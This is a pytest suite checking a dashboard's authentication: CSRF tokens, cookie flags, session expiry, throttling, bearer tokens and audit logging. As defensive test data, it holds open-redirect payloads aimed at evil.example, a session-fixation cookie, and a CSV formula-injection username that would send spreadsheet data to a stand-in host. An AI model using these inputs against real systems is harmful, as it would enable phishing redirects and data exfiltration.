"""Sign-in, sessions and tokens (CONTRACT.md §7, dashboard.auth), through the Flask test client as a browser and a
script use them."""

from __future__ import annotations

import pytest
from sqlalchemy import event

from dashboard.state import hash_token
from tests.support import TEST_PASSWORD, bearer, csrf_of, sign_in, signed_in_client

YEAR = "from=2022-01-01&to=2022-12-31"


@pytest.fixture(scope="module")
def app_config(fixture_sqlite):
    return {"url": fixture_sqlite, "aggregates": False}


@pytest.fixture
def anonymous(app):
    return app.server.test_client()


def _state(app):
    return app.server.extensions["stv-state"]


def test_a_page_without_a_session_redirects_to_sign_in_with_the_way_back(anonymous):
    response = anonymous.get("/no-shows?region=ANT")
    assert response.status_code == 303
    assert response.headers["Location"] == "/login?next=%2Fno-shows%3Fregion%3DANT"


@pytest.mark.parametrize(
    "method, path",
    [
        ("POST", "/_dash-update-component"),
        ("GET", "/_dash-layout"),
        ("GET", "/_dash-dependencies"),
        ("GET", "/export/kpis.csv"),
        ("GET", "/report.pdf"),
        ("GET", "/report.xlsx"),
        ("GET", "/admin/audit.csv"),
    ],
)
def test_endpoints_of_scripts_and_callbacks_answer_401_without_a_session(anonymous, method, path):
    response = anonymous.open(path, method=method, json={} if method == "POST" else None)
    assert response.status_code == 401


def test_login_healthz_and_assets_need_no_session(anonymous):
    assert anonymous.get("/login").status_code == 200
    with anonymous.get("/assets/app.css") as asset:
        assert asset.status_code == 200


def test_sign_in_sets_a_strict_session_cookie_and_goes_on_to_next(anonymous):
    token = csrf_of(anonymous.get("/login").get_data(as_text=True))
    response = anonymous.post(
        "/login", data={"username": "manager", "password": TEST_PASSWORD, "csrf_token": token, "next": "/shortages"}
    )
    assert response.status_code == 303 and response.headers["Location"] == "/shortages"
    cookie = response.headers["Set-Cookie"]
    assert "stv_session=" in cookie and "HttpOnly" in cookie and "SameSite=Lax" in cookie
    assert "Secure" not in cookie  # plain http here; https below
    assert anonymous.get("/shortages").status_code == 200


def test_the_session_id_changes_on_sign_in(anonymous):
    anonymous.set_cookie("stv_session", "planted-by-someone-else")  # session fixation: never kept
    sign_in(anonymous, "manager")
    assert anonymous.get_cookie("stv_session").value not in ("", "planted-by-someone-else")
    assert anonymous.get("/shortages").status_code == 200


def test_opening_the_sign_in_form_stores_no_session(anonymous):
    """A flood of anonymous visitors cannot fill the session store: the form's token is a signed cookie."""
    response = anonymous.get("/login")
    assert anonymous.get_cookie("stv_session") is None
    cookie = response.headers["Set-Cookie"]
    assert cookie.startswith("stv_login_csrf=") and "HttpOnly" in cookie and "Path=/login" in cookie


def test_the_form_token_must_match_its_own_cookie(app):
    first, second = app.server.test_client(), app.server.test_client()
    token_of_first = csrf_of(first.get("/login").get_data(as_text=True))
    second.get("/login")  # a cookie of its own: the first's token does not match it
    response = second.post(
        "/login", data={"username": "manager", "password": TEST_PASSWORD, "csrf_token": token_of_first}
    )
    assert response.status_code == 400
    nonce = first.get_cookie("stv_login_csrf", path="/login").value
    forged = first.post("/login", data={"username": "manager", "password": TEST_PASSWORD, "csrf_token": nonce})
    assert forged.status_code == 400  # the cookie's value unsigned is no token


def test_a_sign_in_form_opened_twice_still_signs_in(anonymous):
    """Two tabs of the form (or a form shown again after a wrong password) share one cookie: the first still works."""
    first = csrf_of(anonymous.get("/login").get_data(as_text=True))
    anonymous.get("/login?lang=en")
    response = anonymous.post("/login", data={"username": "manager", "password": TEST_PASSWORD, "csrf_token": first})
    assert response.status_code == 303


def test_the_cookie_is_secure_over_https(app):
    client = app.server.test_client()
    token = csrf_of(client.get("/login", base_url="https://localhost").get_data(as_text=True))
    response = client.post(
        "/login",
        base_url="https://localhost",
        data={"username": "manager", "password": TEST_PASSWORD, "csrf_token": token},
    )
    assert response.status_code == 303 and "Secure" in response.headers["Set-Cookie"]


@pytest.mark.parametrize(
    "next_path",
    [
        "https://evil.example/",
        "//evil.example/",
        "/\\evil.example",
        "javascript:x",
        "/\t/evil.example",
        "/%09/evil",
        "/\r/x",
    ],
)
def test_next_never_leaves_the_site(anonymous, next_path):
    token = csrf_of(anonymous.get("/login").get_data(as_text=True))
    response = anonymous.post(
        "/login", data={"username": "manager", "password": TEST_PASSWORD, "csrf_token": token, "next": next_path}
    )
    assert response.status_code == 303 and response.headers["Location"] == "/"


def test_unknown_name_and_wrong_password_get_the_same_answer(app):
    unknown = sign_in(app.server.test_client(), "nobody-here", "whatever")
    wrong = sign_in(app.server.test_client(), "planner", "not the password")
    assert unknown.status_code == wrong.status_code == 401

    def page(response, name):  # the form keeps the name typed; its token is the session's
        text = response.get_data(as_text=True)
        return text.replace(csrf_of(text), "").replace(f'value="{name}"', "")

    assert page(unknown, "nobody-here") == page(wrong, "planner")
    assert "klopt niet" in page(unknown, "nobody-here")


def test_a_post_without_the_form_token_is_refused(anonymous):
    anonymous.get("/login")
    response = anonymous.post("/login", data={"username": "manager", "password": TEST_PASSWORD})
    assert response.status_code == 400
    assert anonymous.get("/").status_code == 303


def test_failed_attempts_are_throttled_per_name(app):
    client = app.server.test_client()
    statuses = [sign_in(client, "board", "wrong").status_code for _ in range(5)]
    assert statuses == [401] * 5
    throttled = sign_in(client, "board")  # the right password, but too many failures first
    assert throttled.status_code == 429 and "Te veel mislukte pogingen" in throttled.get_data(as_text=True)
    assert signed_in_client(app, "manager")  # another name still signs in
    elsewhere = app.server.test_client()  # the owner, from another address, is not locked out by a stranger's tries
    assert sign_in(elsewhere, "board", environ_base={"REMOTE_ADDR": "192.0.2.7"}).status_code == 303


def test_a_failed_sign_in_keeps_only_a_known_name_in_the_audit_log(app):
    _state(app).add_account("typist", ("planner",), password=TEST_PASSWORD)
    before = len(_state(app).audit(action="sign-in-failed", limit=None))
    sign_in(app.server.test_client(), "my-secret-password", "oops")  # the password typed into the name field
    sign_in(app.server.test_client(), "typist", "wrong")
    rows = _state(app).audit(action="sign-in-failed", limit=None)
    assert [row["username"] for row in rows[: len(rows) - before]] == ["typist", None]  # newest first
    assert all("my-secret-password" not in str(row) for row in rows)


def test_refused_requests_are_audited(app):
    _state(app).add_account("board-member", ("board",), password=TEST_PASSWORD)
    client = signed_in_client(app, "board-member")
    assert client.get("/export/open-requests.csv").status_code == 403
    newest = _state(app).audit(username="board-member", limit=1)[0]
    assert (newest["action"], newest["target"]) == ("refused", "/export/open-requests.csv")


def test_a_disabled_account_stops_at_once(app, make_app, fixture_sqlite):
    _state(app).add_account("leaver", ("manager",), password=TEST_PASSWORD)
    client = app.server.test_client()
    assert sign_in(client, "leaver").status_code == 303
    assert client.get("/").status_code == 200
    _state(app).update_account("leaver", disabled=True)
    assert client.get("/").status_code == 303
    assert sign_in(app.server.test_client(), "leaver").status_code == 401


class Clock:
    def __init__(self):
        self.now = 1_000_000.0

    def __call__(self):
        return self.now


@pytest.fixture(scope="module")
def clocked():
    return Clock()


@pytest.fixture(scope="module")
def clocked_app(make_app, fixture_sqlite, clocked):
    return make_app(fixture_sqlite, aggregates=False, auth_clock=clocked, settings={"idle_minutes": 30})


def test_a_session_ends_after_30_idle_minutes(clocked_app, clocked):
    client = signed_in_client(clocked_app)
    clocked.now += 29 * 60
    assert client.get("/").status_code == 200  # a request within the idle time keeps it going
    clocked.now += 29 * 60
    assert client.get("/").status_code == 200
    clocked.now += 31 * 60
    response = client.get("/")
    assert response.status_code == 303 and "expired=1" in response.headers["Location"]
    assert "Uw sessie is verlopen" in client.get(response.headers["Location"]).get_data(as_text=True)


def test_a_session_ends_8_hours_after_signing_in_however_busy(clocked_app, clocked):
    client = signed_in_client(clocked_app)
    for _ in range(16):  # a request every 29 minutes: never idle
        clocked.now += 29 * 60
        assert client.get("/").status_code == 200
    clocked.now += 29 * 60  # 8 h 3 min after signing in
    assert client.get("/").status_code == 303


def test_sign_out_ends_the_session(app):
    client = signed_in_client(app)
    token = _layout_csrf(client.get("/_dash-layout").get_json())
    response = client.post("/logout", data={"csrf_token": token})
    assert response.status_code == 303 and response.headers["Location"].startswith("/login?signed_out=1")
    assert client.get("/").status_code == 303
    assert _state(app).audit(username="manager", action="sign-out")


def _layout_csrf(node):
    """The value of the shell's hidden csrf_token input (the sign-out form)."""
    if isinstance(node, dict):
        props = node.get("props", {})
        if props.get("name") == "csrf_token":
            return props["value"]
        children = [*node.values()]
    elif isinstance(node, list):
        children = node
    else:
        return None
    return next((found for child in children if (found := _layout_csrf(child))), None)


def test_a_token_opens_exports_and_reports_only(app):
    headers = bearer(app, "manager")
    client = app.server.test_client()
    assert client.get(f"/export/kpis.csv?{YEAR}", headers=headers).status_code == 200
    assert client.get("/report.xlsx?period=2022", headers=headers).status_code == 200
    assert client.get("/", headers=headers).status_code == 303
    assert client.post("/_dash-update-component", json={}, headers=headers).status_code == 401


def test_a_token_is_kept_as_a_hash_and_can_be_revoked(app):
    state = _state(app)
    token = state.create_token("planner")
    with state.engine.connect() as conn:
        stored = [row.token_hash for row in conn.execute(_tokens())]
    assert hash_token(token) in stored and token not in stored
    client = app.server.test_client()
    headers = {"Authorization": f"Bearer {token}"}
    assert client.get(f"/export/kpis.csv?{YEAR}", headers=headers).status_code == 200
    assert state.revoke_tokens("planner") >= 1
    assert client.get(f"/export/kpis.csv?{YEAR}", headers=headers).status_code == 401


def _tokens():
    from sqlalchemy import select

    from queries.state import api_tokens

    return select(api_tokens.c.token_hash)


def test_an_unknown_token_gets_401(anonymous):
    response = anonymous.get(f"/export/kpis.csv?{YEAR}", headers={"Authorization": "Bearer stv_nothing"})
    assert response.status_code == 401


def test_a_cross_site_post_is_refused(client):
    response = client.post("/_dash-update-component", json={}, headers={"Sec-Fetch-Site": "cross-site"})
    assert response.status_code == 403


def test_the_audit_log_has_sign_ins_failures_exports_and_page_views(app):
    state = _state(app)
    sign_in(app.server.test_client(), "planner", "a wrong one")
    client = signed_in_client(app, "planner")
    client.get(f"/export/languages.csv?{YEAR}")
    rows = state.audit(username="planner")
    actions = [(row["action"], row["target"], row["parameters"]) for row in rows]
    assert ("sign-in-failed", "/login", "") in actions
    assert ("sign-in", "/login", "") in actions
    assert ("export", "/export/languages.csv", YEAR) in actions
    assert all(TEST_PASSWORD not in str(row) and "a wrong one" not in str(row) for row in rows)


def test_signing_in_in_english_lands_in_english(anonymous):
    token = csrf_of(anonymous.get("/login?lang=en").get_data(as_text=True))
    response = anonymous.post(
        "/login", data={"username": "organisation", "password": TEST_PASSWORD, "csrf_token": token, "lang": "en"}
    )
    assert response.status_code == 303 and response.headers["Location"] == "/organisations/1?lang=en"


def test_a_request_under_way_during_sign_out_does_not_sign_in_again(app):
    """A callback that read the session before the browser signed out answers after it: its session must not
    be written back (Chromium showed it: signed out, then signed in again by a late answer)."""
    import flask

    client = signed_in_client(app)
    cookie = client.get_cookie("stv_session").value
    server = app.server
    with server.test_request_context("/_dash-update-component", headers={"Cookie": f"stv_session={cookie}"}):
        under_way = server.session_interface.open_session(server, flask.request)
        assert under_way["user"] == "manager"
        token = _layout_csrf(client.get("/_dash-layout").get_json())
        assert client.post("/logout", data={"csrf_token": token}).status_code == 303
        under_way["seen_at"] += 1  # the late request touched its session, as every request does
        answer = server.response_class()
        server.session_interface.save_session(server, under_way, answer)
        assert "Set-Cookie" not in answer.headers
    late = app.server.test_client()
    late.set_cookie("stv_session", cookie)
    assert late.get("/").status_code == 303


def test_a_name_typed_as_a_formula_reaches_the_audit_csv_as_text(app):
    name = '=HYPERLINK("https://evil/?"&A1,"x")'
    _state(app).add_account(name, ("planner",), password=TEST_PASSWORD)  # the audit keeps known names only
    sign_in(app.server.test_client(), name, "wrong")
    csv_text = signed_in_client(app, "admin").get("/admin/audit.csv?action=sign-in-failed").get_data(as_text=True)
    assert "'=HYPERLINK" in csv_text and ",=HYPERLINK" not in csv_text


def test_oidc_requires_its_settings():
    """STV_AUTH=oidc without its provider is a clear error naming what is missing (more in tests/test_oidc.py)."""
    from dashboard.settings import SettingsError, load_settings

    with pytest.raises(SettingsError, match="STV_OIDC_ISSUER, STV_OIDC_CLIENT_ID, STV_OIDC_CLIENT_SECRET"):
        load_settings({"STV_AUTH": "oidc"}, dotenv=None)


def test_a_busy_session_is_written_once_a_minute_not_on_every_request(clocked_app, clocked):
    """A page's callbacks within a minute read the session and write it no more (its idle time is kept to the
    minute); the next minute's request writes it once, moving the idle limit on."""
    client = signed_in_client(clocked_app)
    engine = clocked_app.server.extensions["stv-state"].engine
    writes = []

    def count(conn, cursor, statement, parameters, context, executemany):
        if statement.lstrip().upper().startswith(("UPDATE SESSIONS", "INSERT INTO SESSIONS")):
            writes.append(statement)

    event.listen(engine, "before_cursor_execute", count)
    try:
        assert client.get("/").status_code == 200  # the first request after signing in
        written = len(writes)
        for _ in range(10):
            clocked.now += 5
            assert client.get("/").status_code == 200
        assert len(writes) == written
        clocked.now += 60
        assert client.get("/").status_code == 200
        assert len(writes) == written + 1
    finally:
        event.remove(engine, "before_cursor_execute", count)
